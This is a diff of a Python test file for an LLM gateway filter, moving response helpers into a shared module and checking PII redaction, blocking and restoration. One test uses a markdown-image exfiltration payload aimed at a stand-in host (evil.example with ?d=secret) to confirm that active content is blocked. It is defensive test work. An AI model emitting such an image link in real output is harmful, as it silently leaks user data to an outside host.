@@ -6,30 +6,15 @@ import json
 from dataclasses import replace
 
 import pytest
-import yaml
 
 from extproc.events import BodyMode, Proceed, RequestBody, ResponseBody, ResponseHeaders
 from extproc.llm.sse import SseParser
 from extproc.models.workers import Overloaded
 from extproc.session import Session
-from tests.desk import POLICIES, Told, body, decide, desk, headers, rules
+from tests.desk import body, decide, headers
+from tests.upstream import answer, said, stream
 
 EMAIL, SSN = "jane.doe@example.com", "078-05-1120"
-
-
-@pytest.fixture
-def session_of(tmp_path):
-    def make(**sections):
-        for file in POLICIES.glob("*.yaml"):
-            (tmp_path / file.name).write_text(file.read_text())
-        document = yaml.safe_load((POLICIES / "default.yaml").read_text())
-        for name, section in sections.items():
-            document[name] = {**(document.get(name) or {}), **section}
-        (tmp_path / "default.yaml").write_text(yaml.safe_dump(document, sort_keys=False))
-        told = Told()
-        return Session(desk(told, rules(tmp_path))), told
-
-    return make
 
 
 def redact(**more):
@@ -39,43 +24,6 @@ def redact(**more):
 def sent(reply):
     assert isinstance(reply, Proceed), reply
     return json.loads(reply.body)
-
-
-def chat(content, **message):
-    said = {"role": "assistant", "content": content, **message}
-    return {
-        "id": "x",
-        "object": "chat.completion",
-        "model": "m",
-        "choices": [{"index": 0, "message": said, "finish_reason": "stop"}],
-        "usage": {"prompt_tokens": 3, "completion_tokens": 4},
-    }
-
-
-async def answer(session, document, status="200"):
-    head = ResponseHeaders({":status": status, "content-type": "application/json"}, False)
-    asked = await session.receive(head)
-    assert asked.response_body_mode is BodyMode.BUFFERED
-    reply = await session.receive(ResponseBody(json.dumps(document).encode(), True))
-    session.close()
-    return reply
-
-
-async def stream(session, frames, size=None):
-    """All that the client gets; `size` cuts the stream into pieces of so many bytes."""
-    head = ResponseHeaders({":status": "200", "content-type": "text/event-stream"}, False)
-    asked = await session.receive(head)
-    assert asked.response_body_mode is BodyMode.STREAMED
-    assert "content-length" in asked.remove_headers
-    data = b"".join(frames)
-    size = size or len(data) or 1
-    pieces = [data[at : at + size] for at in range(0, len(data), size)]
-    out = b""
-    for at, piece in enumerate(pieces):
-        reply = await session.receive(ResponseBody(piece, at == len(pieces) - 1))
-        out += piece if reply.body is None else reply.body
-    session.close()
-    return out
 
 
 async def test_what_is_redacted_does_not_leave_and_comes_back(session_of):
@@ -91,7 +39,7 @@ async def test_what_is_redacted_does_not_leave_and_comes_back(session_of):
     assert document["user"] in text, "one value has one placeholder"
     call = {"id": "c", "type": "function", "function": {"name": "f"}}
     call["function"]["arguments"] = json.dumps({"to": text})
-    back = await answer(session, chat(text, tool_calls=[call], reasoning_content=text.lower()))
+    back = await answer(session, said(text, tool_calls=[call], reasoning_content=text.lower()))
     message = json.loads(back.body)["choices"][0]["message"]
     assert message["content"] == f"Mail {EMAIL}, SSN {SSN}. Again {EMAIL}!"
     assert EMAIL in message["reasoning_content"]
@@ -201,7 +149,7 @@ def spoken(out):
 async def test_a_blocked_answer_is_our_error(session_of):
     session, told = session_of(output={"sensitive": "block"})
     await decide(session, body("Hi"))
-    reply = await answer(session, chat(f"The SSN is {SSN}."))
+    reply = await answer(session, said(f"The SSN is {SSN}."))
     assert reply.set_headers[":status"] == "403"
     error = json.loads(reply.body)["error"]
     assert error["code"] == "sensitive_data"
@@ -212,7 +160,7 @@ async def test_a_blocked_answer_is_our_error(session_of):
 async def test_an_answer_is_redacted(session_of):
     session, told = session_of(output={"sensitive": "redact"})
     await decide(session, body("Hi"))
-    reply = await answer(session, chat(f"Ask {EMAIL} now"))
+    reply = await answer(session, said(f"Ask {EMAIL} now"))
     assert json.loads(reply.body)["choices"][0]["message"]["content"] == "Ask <EMAIL_ADDRESS> now"
     assert told.documents[0]["choices"][0]["message"]["content"] == "Ask <EMAIL_ADDRESS> now"
 
@@ -243,7 +191,7 @@ async def test_a_block_in_mid_stream_is_an_error_and_a_proper_end(session_of):
 async def test_active_content_is_blocked_and_its_record_says_so(session_of):
     session, _ = session_of(output={"content": "block"})
     await decide(session, body("Hi"))
-    reply = await answer(session, chat("![x](https://evil.example/p?d=secret)"))
+    reply = await answer(session, said("![x](https://evil.example/p?d=secret)"))
     assert json.loads(reply.body)["error"]["code"] == "content_policy"
 
 
@@ -260,7 +208,7 @@ async def test_an_answer_must_fit_the_schema_streamed_or_not(session_of, text, p
         assert spoken(out) == (text if passes else "")
         assert ("error" in events_of(out)[-1]) is not passes
     else:
-        reply = await answer(session, chat(text))
+        reply = await answer(session, said(text))
         assert (reply.set_headers.get(":status") == "403") is not passes
 
 
@@ -287,7 +235,7 @@ async def test_what_cannot_be_read_does_not_pass_the_guard(session_of):
 async def test_restoring_comes_after_the_guard(session_of):
     session, _ = session_of(sensitivity=redact(), output={"sensitive": "block"})
     text = sent(await decide(session, body(f"Mail {EMAIL}")))["messages"][0]["content"]
-    reply = await answer(session, chat(text))
+    reply = await answer(session, said(text))
     assert json.loads(reply.body)["choices"][0]["message"]["content"] == f"Mail {EMAIL}"
 
 
@@ -313,7 +261,7 @@ async def test_an_answer_is_read_however_busy_the_workers_are(session_of):
             raise Overloaded
 
     session._desk = replace(session._desk, workers=Full())
-    reply = await answer(session, chat(f"Ask {EMAIL} " + "now " * 5000))
+    reply = await answer(session, said(f"Ask {EMAIL} " + "now " * 5000))
     assert EMAIL not in reply.body.decode()
 
 
@@ -325,7 +273,7 @@ async def refused(session, text, *, streamed=False, **head):
     """How the client is told that the answer does not fit: status, should-retry, document."""
     await decide(session, body("Score it", stream=streamed), **head)
     if not streamed:
-        reply = await answer(session, chat(text))
+        reply = await answer(session, said(text))
     else:
         type_ = {":status": "200", "content-type": "text/event-stream"}
         asked = await session.receive(ResponseHeaders(type_, False))
